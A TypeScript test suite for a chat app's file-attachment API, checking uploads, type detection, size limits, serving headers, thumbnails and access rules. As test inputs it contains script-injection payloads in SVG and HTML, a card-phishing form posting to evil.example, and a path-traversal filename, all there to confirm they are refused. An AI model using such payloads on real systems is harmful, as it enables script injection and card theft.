import { createHash, randomBytes } from 'node:crypto'
import sharp from 'sharp'
import t, { type Test } from 'tap'
import { signMediaToken } from '../../src/attachments/links.js'
import { build, seedGuest, seedWorkspace } from '../helper.js'
import { listenEvents, startConversation } from '../conversations/fixtures.js'
import { DRIVERS, jpeg, PDF, png, storageEnv, uploadForm, multipart, type Driver } from './fixtures.js'

/**
 * 10,000 bytes of fixed noise (sha256 in counter mode): random bytes start with an MPEG frame sync
 * now and then (0xFF 0xE0-0xFF), which file-type reads as audio/mpeg, and the upload was then
 * accepted (seen once in CI). These bytes were checked to match no signature.
 */
const NOISE = Buffer.concat(Array.from({ length: 313 }, (_, i) => createHash('sha256').update(`noise ${i}`).digest())).subarray(0, 10_000)

/**
 * API.md section 10 through HTTP, on both storage drivers (local disk; S3 on a real S3-compatible
 * server on 127.0.0.1): uploads, serving, attaching to messages, the files tab, signed links.
 */
const VISITOR_MAX = 300_000
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex')

async function world(t: Test, driver: Driver, extra: Record<string, string> = {}) {
  const storage = await storageEnv(t, driver, extra)
  const { app, redisPrefix } = await build(t, {
    env: { ...storage.env, UPLOAD_MAX_BYTES_VISITOR: String(VISITOR_MAX), UPLOAD_MAX_BYTES: String(VISITOR_MAX * 2), VISITOR_UPLOADS_PER_HOUR: '1000', JOBS_WORKER: 'false' },
  })
  const ws = await seedWorkspace(app)
  const other = await seedWorkspace(app, 'Other')
  const guest = await seedGuest(app, ws)
  const conv = await startConversation(app, guest)
  const upload = (headers: Record<string, string>, conversationId: string, file: Parameters<typeof uploadForm>[1]) => {
    const form = uploadForm(conversationId, file)
    return app.inject({ method: 'POST', url: '/uploads', headers: { ...headers, ...form.headers }, payload: form.payload })
  }
  const rows = async () => (await app.deps.sql<{ n: number }[]>`SELECT count(*)::int AS n FROM attachments`)[0]!.n
  return { app, redisPrefix, storage, ws, other, guest, conv, upload, rows }
}

for (const driver of DRIVERS) {
  t.test(`attachments on ${driver} storage`, async (t) => {
    const w = await world(t, driver)
    const { app, ws, guest, conv, upload } = w
    const image = await png(800, 400)

    t.test('a visitor uploads an image: 201, pending, stored with its sha256 and size', async (t) => {
      const res = await upload(guest.headers, conv.id, { filename: 'screen shot.png', contentType: 'image/png', data: image })
      t.equal(res.statusCode, 201, res.body)
      const a = res.json()
      t.match(a, { conversationId: conv.id, filename: 'screen shot.png', contentType: 'image/png', size: image.length, sha256: sha(image), width: 800, height: 400 })
      t.equal(a.url, `/media/${a.id}`)
      const [row] = await app.deps.sql`SELECT message_id, uploader_type, uploader_id, storage_key FROM attachments WHERE id = ${a.id}`
      t.match(row, { message_id: null, uploader_type: 'GUEST', uploader_id: guest.guestId })
      t.equal(await app.deps.storage.exists(row!.storage_key), true, 'the object is in the store')
    })

    t.test('members upload too; types come from the bytes', async (t) => {
      const pdf = await upload(ws.agent.headers, conv.id, { filename: 'invoice.bin', contentType: 'application/octet-stream', data: PDF })
      t.equal(pdf.statusCode, 201, pdf.body)
      t.equal(pdf.json().contentType, 'application/pdf')
      const csv = await upload(ws.agent.headers, conv.id, { filename: 'data.csv', contentType: 'text/csv', data: Buffer.from('a,b\n1,2\nÄ,ö\n') })
      t.equal(csv.json().contentType, 'text/csv')
      const txt = await upload(ws.agent.headers, conv.id, { filename: 'notes', data: Buffer.from('just some text\n') })
      t.equal(txt.json().contentType, 'text/plain')
    })

    t.test('refused types: 415 and nothing kept', async (t) => {
      const before = await w.rows()
      const cases: [string, Buffer, string][] = [
        ['x.exe', Buffer.concat([Buffer.from('MZ'), randomBytes(5000)]), 'application/octet-stream'],
        ['noise.bin', NOISE, 'application/octet-stream'],
        ['pic.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml'],
        ['page.txt', Buffer.from('<html><script>alert(1)</script></html>'), 'text/plain'],
        ['fake.png', await jpeg(50, 50), 'image/png'],
        ['empty.txt', Buffer.alloc(0), 'text/plain'],
      ]
      for (const [filename, data, contentType] of cases) {
        const res = await upload(guest.headers, conv.id, { filename, contentType, data })
        t.equal(res.statusCode, 415, `${filename}: ${res.body}`)
        t.equal(res.json().code, 'UNSUPPORTED_MEDIA_TYPE')
      }
      t.equal(await w.rows(), before, 'no row')
    })

    t.test('markup anywhere in a text file: 415; text gets a text name (issue 32)', async (t) => {
      const before = await w.rows()
      const page = '<form action="https://evil.example/pay"><input name=card></form><script>fetch("/x")</script>\n'
      const cases: [string, Buffer][] = [
        ['invoice.html', Buffer.from(`Invoice 2024-117 for ACME, please pay below\n${page}`)],
        ['logo.svg', Buffer.from(`just a logo\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
        // Past the 4,100-byte sample the type is decided on, and in a later chunk of the stream.
        ['late.html', Buffer.concat([Buffer.alloc(150_000, 'plain words '), Buffer.from(page)])],
        ['late.txt', Buffer.concat([Buffer.alloc(4090, 'x'), Buffer.from('<!DOCTYPE html><p>hi')])],
      ]
      for (const [filename, data] of cases) {
        const res = await upload(guest.headers, conv.id, { filename, contentType: 'text/plain', data })
        t.equal(res.statusCode, 415, `${filename}: ${res.body}`)
        t.equal(res.json().code, 'UNSUPPORTED_MEDIA_TYPE')
      }
      t.equal(await w.rows(), before, 'no row')
      if (w.storage.dir) {
        const { readdirSync } = await import('node:fs')
        const files = readdirSync(w.storage.dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).length
        t.equal(files, await w.rows() + (await app.deps.sql`SELECT 1 FROM attachments WHERE thumb_key IS NOT NULL`).length, 'no object of a refused file')
      }

      const named = async (filename: string, text: string) => {
        const res = await upload(guest.headers, conv.id, { filename, data: Buffer.from(text) })
        t.equal(res.statusCode, 201, res.body)
        return res.json()
      }
      const html = await named('invoice.html', 'Invoice 2024-117: 40 EUR, x<a and <none>\n')
      t.equal(html.filename, 'invoice.html.txt', 'text under an HTML name gets .txt')
      t.equal(html.contentType, 'text/plain')
      const served = await app.inject({ url: html.url, headers: guest.headers })
      t.match(served.headers['content-disposition'], /^attachment; filename="invoice\.html\.txt"$/)
      t.equal((await named('logo.svg', 'not a picture')).filename, 'logo.svg.txt')
      t.equal((await named('feed.XML', 'items')).filename, 'feed.XML.txt')
      t.equal((await named('notes.md', '# notes')).filename, 'notes.md', 'text extensions stay')
      t.equal((await named('README', 'plain')).filename, 'README', 'no extension, nothing to disagree with')
      t.equal((await named('table.html', 'a,b\n1,2\n')).filename, 'table.html.txt')
      const csv = await upload(guest.headers, conv.id, { filename: 'export.html', contentType: 'text/csv', data: Buffer.from('a,b\n') })
      t.match(csv.json(), { filename: 'export.html.csv', contentType: 'text/csv' })
    })

    t.test('size: exactly the limit passes, one byte more is 413 with nothing kept', async (t) => {
      const text = (n: number) => Buffer.alloc(n, 'a')
      const ok = await upload(guest.headers, conv.id, { filename: 'max.txt', data: text(VISITOR_MAX) })
      t.equal(ok.statusCode, 201, ok.body)
      const before = await w.rows()
      const big = await upload(guest.headers, conv.id, { filename: 'big.txt', data: text(VISITOR_MAX + 1) })
      t.equal(big.statusCode, 413, big.body)
      t.equal(big.json().code, 'PAYLOAD_TOO_LARGE')
      t.equal(await w.rows(), before)
      const member = await upload(ws.agent.headers, conv.id, { filename: 'm.txt', data: text(VISITOR_MAX + 1) })
      t.equal(member.statusCode, 201, 'members have their own, larger limit')
    })

    t.test('names are sanitised', async (t) => {
      const res = await upload(guest.headers, conv.id, { filename: '..\\..\\evil\u202egnp.txt', data: Buffer.from('hi') })
      t.equal(res.json().filename, 'evilgnp.txt')
      const long = await upload(guest.headers, conv.id, { filename: `${'é'.repeat(300)}.txt`, data: Buffer.from('hi') })
      t.ok(Buffer.byteLength(long.json().filename) <= 255)
      t.ok(long.json().filename.endsWith('.txt'))
    })

    t.test('who may upload where', async (t) => {
      const otherGuest = await seedGuest(app, ws, 'Other Guest')
      const data = { filename: 'a.txt', data: Buffer.from('hello') }
      t.equal((await upload(otherGuest.headers, conv.id, data)).statusCode, 404, "another guest's conversation")
      t.equal((await upload(w.other.owner.headers, conv.id, data)).statusCode, 404, "another workspace's conversation")
      t.equal((await upload({}, conv.id, data)).statusCode, 401)
      t.equal((await upload(guest.headers, 'not-a-uuid', data)).statusCode, 404)
      const wrongOrder = multipart([['file', { filename: 'a.txt', data: Buffer.from('x') }], ['conversationId', conv.id]])
      const res = await app.inject({ method: 'POST', url: '/uploads', headers: { ...guest.headers, ...wrongOrder.headers }, payload: wrongOrder.payload })
      t.equal(res.statusCode, 400, res.body)
      const json = await app.inject({ method: 'POST', url: '/uploads', headers: guest.headers, payload: { conversationId: conv.id } })
      t.equal(json.statusCode, 415, json.body)
    })

    t.test('serving: headers, ETag/304, Range/206, dispositions', async (t) => {
      const a = (await upload(guest.headers, conv.id, { filename: 'Straße ü.png', contentType: 'image/png', data: image })).json()
      const res = await app.inject({ url: a.url, headers: guest.headers })
      t.equal(res.statusCode, 200)
      t.equal(res.headers['content-type'], 'image/png')
      t.equal(res.headers['x-content-type-options'], 'nosniff')
      t.equal(res.headers['content-security-policy'], 'sandbox')
      t.equal(res.headers.etag, `"${a.sha256}"`)
      t.equal(res.headers['content-disposition'], `inline; filename="Stra_e _.png"; filename*=UTF-8''Stra%C3%9Fe%20%C3%BC.png`)
      t.equal(sha(res.rawPayload), a.sha256, 'the bytes as uploaded')
      const head = await app.inject({ method: 'HEAD', url: a.url, headers: guest.headers })
      t.equal(head.statusCode, 200)
      t.equal(head.headers['content-length'], String(image.length))
      t.equal(head.rawPayload.length, 0, 'HEAD: headers only')
      const dl = await app.inject({ url: `${a.url}?download=1`, headers: guest.headers })
      t.match(dl.headers['content-disposition'], /^attachment; /)
      const nm = await app.inject({ url: a.url, headers: { ...guest.headers, 'if-none-match': `"${a.sha256}"` } })
      t.equal(nm.statusCode, 304)
      const part = await app.inject({ url: a.url, headers: { ...ws.agent.headers, range: 'bytes=10-19' } })
      t.equal(part.statusCode, 206)
      t.equal(part.headers['content-range'], `bytes 10-19/${image.length}`)
      t.ok(part.rawPayload.equals(image.subarray(10, 20)))
      const tail = await app.inject({ url: a.url, headers: { ...ws.agent.headers, range: 'bytes=-5' } })
      t.ok(tail.rawPayload.equals(image.subarray(image.length - 5)))
      const bad = await app.inject({ url: a.url, headers: { ...ws.agent.headers, range: `bytes=${image.length}-` } })
      t.equal(bad.statusCode, 416)
      t.equal(bad.headers['content-range'], `bytes */${image.length}`)
      const csv = (await upload(guest.headers, conv.id, { filename: 'd.csv', data: Buffer.from('a,b\n') })).json()
      const c = await app.inject({ url: csv.url, headers: guest.headers })
      t.equal(c.headers['content-type'], 'text/csv; charset=utf-8')
      t.match(c.headers['content-disposition'], /^attachment; filename="d.csv"/)
      const pdfRange = await app.inject({ url: csv.url, headers: { ...guest.headers, range: 'bytes=0-0' } })
      t.equal(pdfRange.statusCode, 206, 'every file serves ranges')
    })

    t.test('thumbnails: at most 320 px, made once and stored; 400 for non-images', async (t) => {
      const a = (await upload(guest.headers, conv.id, { filename: 'wide.png', contentType: 'image/png', data: image })).json()
      const th = await app.inject({ url: `${a.url}?variant=thumb`, headers: guest.headers })
      t.equal(th.statusCode, 200, th.body)
      t.equal(th.headers['content-type'], 'image/webp')
      const meta = await sharp(th.rawPayload).metadata()
      t.equal(meta.format, 'webp')
      t.equal(Math.max(meta.width!, meta.height!), 320)
      t.equal(meta.width, 320)
      t.equal(meta.height, 160)
      const [row] = await app.deps.sql`SELECT thumb_key FROM attachments WHERE id = ${a.id}`
      t.ok(row!.thumb_key, 'the thumbnail key is recorded')
      t.equal(await app.deps.storage.exists(row!.thumb_key), true, 'and stored')
      const again = await app.inject({ url: `${a.url}?variant=thumb`, headers: guest.headers })
      t.ok(again.rawPayload.equals(th.rawPayload))
      const small = (await upload(guest.headers, conv.id, { filename: 's.png', contentType: 'image/png', data: await png(40, 20) })).json()
      const sm = await sharp((await app.inject({ url: `${small.url}?variant=thumb`, headers: guest.headers })).rawPayload).metadata()
      t.equal(sm.width, 40, 'never enlarged')
      const txt = (await upload(guest.headers, conv.id, { filename: 'a.txt', data: Buffer.from('x') })).json()
      t.equal((await app.inject({ url: `${txt.url}?variant=thumb`, headers: guest.headers })).statusCode, 400)
    })

    t.test('who may read: pending, attached, private, other tenants, signed links', async (t) => {
      const mine = (await upload(guest.headers, conv.id, { filename: 'g.txt', data: Buffer.from('guest') })).json()
      const agents = (await upload(ws.agent.headers, conv.id, { filename: 'a.txt', data: Buffer.from('agent') })).json()
      const get = (url: string, headers: Record<string, string> = {}) => app.inject({ url, headers })
      t.equal((await get(mine.url, guest.headers)).statusCode, 200, 'the uploader reads its pending upload')
      t.equal((await get(mine.url, ws.owner.headers)).statusCode, 200, 'members read pending uploads')
      t.equal((await get(agents.url, guest.headers)).statusCode, 404, "a visitor cannot read an agent's pending upload")
      t.equal((await get(mine.url, w.other.owner.headers)).statusCode, 404, 'another workspace: 404')
      const stranger = await seedGuest(app, ws, 'Stranger')
      t.equal((await get(mine.url, stranger.headers)).statusCode, 404, 'another guest: 404')
      t.equal((await get(mine.url)).statusCode, 401, 'no credentials, no token: 401')
      const token = signMediaToken(app.deps.config, mine.id, 60)
      t.equal((await get(`${mine.url}?token=${token}`)).statusCode, 200, 'a signed link needs no credentials')
      t.equal((await get(`${agents.url}?token=${token}`)).statusCode, 404, 'a token is for one file')
      t.equal((await get(`${mine.url}?token=${token.slice(0, -2)}xx`)).statusCode, 404, 'a bad token: 404')
      const expired = signMediaToken(app.deps.config, mine.id, 60, Date.now() - 3_600_000)
      t.equal((await get(`${mine.url}?token=${expired}`)).statusCode, 404, 'an expired token: 404')
      // The token is the credential of a caller with none (API.md section 1, order of checks):
      // a value that cannot be a token is no credential, 401 before the query or the id is validated.
      for (const [query, why] of [
        [`token=${'a'.repeat(201)}`, 'over 200 characters'],
        [`token=${token}${'x'.repeat(200)}`, 'a token with a long tail'],
        ['token=', 'empty'],
        ['token=not-a-token', 'not of the form'],
        [`token=${token}&token=${token}`, 'given twice'],
        ['variant=huge', 'no token, a bad variant'],
      ]) {
        const res = await get(`${mine.url}?${query}`)
        t.equal(res.statusCode, 401, `${why}: 401`)
        t.equal(res.json().code, 'UNAUTHENTICATED')
        t.notMatch(res.body, /querystring|characters|must/, 'nothing of the schema')
      }
      t.equal((await get(`/media/not-a-uuid?token=${'a'.repeat(300)}`)).statusCode, 401, 'nor of the id')
      t.equal((await get(`${mine.url}?token=${'a'.repeat(201)}`, ws.agent.headers)).statusCode, 400, 'a member (authenticated) gets the validation error')
      // A sent reply's file is the visitor's to read; a private note's is not.
      const sent = await app.inject({ method: 'POST', url: `/conversations/${conv.id}/messages`, headers: ws.agent.headers, payload: { body: '', attachmentIds: [agents.id] } })
      t.equal(sent.statusCode, 201, sent.body)
      t.equal((await get(agents.url, guest.headers)).statusCode, 200)
      const secret = (await upload(ws.agent.headers, conv.id, { filename: 'internal.txt', data: Buffer.from('members only') })).json()
      const note = await app.inject({ method: 'POST', url: `/conversations/${conv.id}/messages`, headers: ws.agent.headers, payload: { body: 'see file', private: true, attachmentIds: [secret.id] } })
      t.equal(note.statusCode, 201, note.body)
      t.equal(note.json().attachments[0].id, secret.id)
      t.equal((await get(secret.url, guest.headers)).statusCode, 404, "a private note's file stays with members")
      t.equal((await get(secret.url, ws.agent.headers)).statusCode, 200)
      const visitorFiles = await get(`/conversations/${conv.id}/attachments`, guest.headers)
      t.notOk(visitorFiles.json().data.some((f: { id: string }) => f.id === secret.id), 'nor in the files tab')
      t.ok(visitorFiles.json().data.some((f: { id: string }) => f.id === agents.id), "a reply's file is")
      const memberFiles = await get(`/conversations/${conv.id}/attachments`, ws.agent.headers)
      t.ok(memberFiles.json().data.some((f: { id: string }) => f.id === secret.id))
      const transcript = await get(`/conversations/${conv.id}/download`, guest.headers)
      t.notMatch(transcript.body, 'internal.txt', "nor in the visitor's transcript")
      t.match(transcript.body, 'a.txt')
      const memberTranscript = await get(`/conversations/${conv.id}/download`, ws.agent.headers)
      t.match(memberTranscript.body, 'internal.txt', "a member's download lists the note's file")
    })

    t.test('messages carry attachments; attachmentIds are checked', async (t) => {
      const events = await listenEvents(t, w.redisPrefix)
      const c2 = await startConversation(app, guest)
      const up = async (headers = guest.headers, conversationId = c2.id) =>
        (await upload(headers, conversationId, { filename: 'f.txt', data: Buffer.from(randomBytes(8).toString('hex')) })).json()
      const a1 = await up()
      const a2 = await up()
      const post = (headers: Record<string, string>, payload: object, id = c2.id) =>
        app.inject({ method: 'POST', url: `/conversations/${id}/messages`, headers, payload })
      const m = await post(guest.headers, { body: 'see files', attachmentIds: [a1.id, a2.id], clientMessageId: 'm1' })
      t.equal(m.statusCode, 201, m.body)
      t.same(m.json().attachments.map((a: { id: string }) => a.id).sort(), [a1.id, a2.id].sort())
      const ev = await events.waitFor((e) => e.event === 'message:new' && e.payload.message.id === m.json().id)
      t.equal(ev.payload.message.attachments.length, 2, 'message:new carries them')
      const retry = await post(guest.headers, { body: 'see files', attachmentIds: [randomUuid()], clientMessageId: 'm1' })
      t.equal(retry.statusCode, 200, 'a retry returns the first message whatever ids it carries')
      t.equal(retry.json().attachments.length, 2)
      const count = async () => (await app.deps.sql<{ n: number }[]>`SELECT count(*)::int AS n FROM messages WHERE conversation_id = ${c2.id}`)[0]!.n
      const before = await count()
      t.equal((await post(guest.headers, { body: 'again', attachmentIds: [a1.id] })).json().code, 'INVALID_ATTACHMENT', 'attached once')
      const agentFile = await up(ws.agent.headers)
      t.equal((await post(guest.headers, { body: 'x', attachmentIds: [agentFile.id] })).json().code, 'INVALID_ATTACHMENT', "another caller's upload")
      const elsewhere = await up(guest.headers, conv.id)
      const a3 = await up()
      t.equal((await post(guest.headers, { body: 'x', attachmentIds: [a3.id, elsewhere.id] })).json().code, 'INVALID_ATTACHMENT', 'another conversation')
      t.equal(await count(), before, 'nothing was sent')
      const [free] = await app.deps.sql`SELECT message_id FROM attachments WHERE id = ${a3.id}`
      t.equal(free!.message_id, null, 'and nothing attached')
      const eleven = await post(guest.headers, { body: 'x', attachmentIds: Array.from({ length: 11 }, randomUuid) })
      t.equal(eleven.statusCode, 400)
      t.equal(eleven.json().code, 'VALIDATION_ERROR')
      t.equal((await post(guest.headers, { body: '' })).statusCode, 400, 'an empty body needs files')
      const list = await app.inject({ url: `/conversations/${c2.id}/messages`, headers: ws.agent.headers })
      t.equal(list.json().data.find((x: { id: string }) => x.id === m.json().id).attachments.length, 2, 'message lists carry them')
      t.same(list.json().data.filter((x: { id: string }) => x.id !== m.json().id).map((x: { attachments: unknown[] }) => x.attachments), [])
      // Files tab: newest attached first, keyset pages.
      const a4 = await up()
      await post(guest.headers, { body: 'later', attachmentIds: [a4.id] })
      const p1 = await app.inject({ url: `/conversations/${c2.id}/attachments?limit=2`, headers: guest.headers })
      t.equal(p1.json().data[0].id, a4.id)
      t.equal(p1.json().data.length, 2)
      const p2 = await app.inject({ url: `/conversations/${c2.id}/attachments?limit=2&cursor=${p1.json().nextCursor}`, headers: guest.headers })
      t.equal(p2.json().data.length, 1)
      t.equal(p2.json().nextCursor, null)
      const seen = [...p1.json().data, ...p2.json().data].map((a: { id: string }) => a.id).sort()
      t.same(seen, [a1.id, a2.id, a4.id].sort(), 'every attached file once, no pending ones')
      // Transcripts list them by name with a signed link.
      const txt = await app.inject({ url: `/conversations/${c2.id}/download`, headers: guest.headers })
      const link = new RegExp(`\\[file\\] f\\.txt <http://localhost:3000(/media/${a4.id}\\?token=[^>]+)>`).exec(txt.body)
      t.ok(link, 'the transcript names the file with a signed link')
      t.equal((await app.inject({ url: link![1]! })).statusCode, 200, 'which works without credentials')
      // A deleted conversation's files are 404 at once, signed or not.
      t.equal((await app.inject({ method: 'DELETE', url: `/conversations/${c2.id}`, headers: ws.owner.headers })).statusCode, 204)
      t.equal((await app.inject({ url: `/media/${a4.id}`, headers: ws.owner.headers })).statusCode, 404)
      t.equal((await app.inject({ url: link![1]! })).statusCode, 404)
    })
  })
}

t.test('MEDIA_REDIRECT on S3: 302 to a presigned URL that answers with the same type and disposition', async (t) => {
  const w = await world(t, 's3', { MEDIA_REDIRECT: 'true' })
  const image = await png(100, 100)
  const a = (await w.upload(w.guest.headers, w.conv.id, { filename: 'r.png', contentType: 'image/png', data: image })).json()
  const res = await w.app.inject({ url: a.url, headers: w.guest.headers })
  t.equal(res.statusCode, 302)
  const location = res.headers.location as string
  t.ok(location.startsWith(w.storage.s3!.endpoint), location)
  t.match(location, /X-Amz-Expires=300/)
  const direct = await fetch(location)
  t.equal(direct.status, 200)
  t.equal(direct.headers.get('content-type'), 'image/png')
  t.equal(direct.headers.get('content-disposition'), 'inline; filename="r.png"')
  t.equal(sha(Buffer.from(await direct.arrayBuffer())), a.sha256)
})

function randomUuid() {
  return crypto.randomUUID()
}
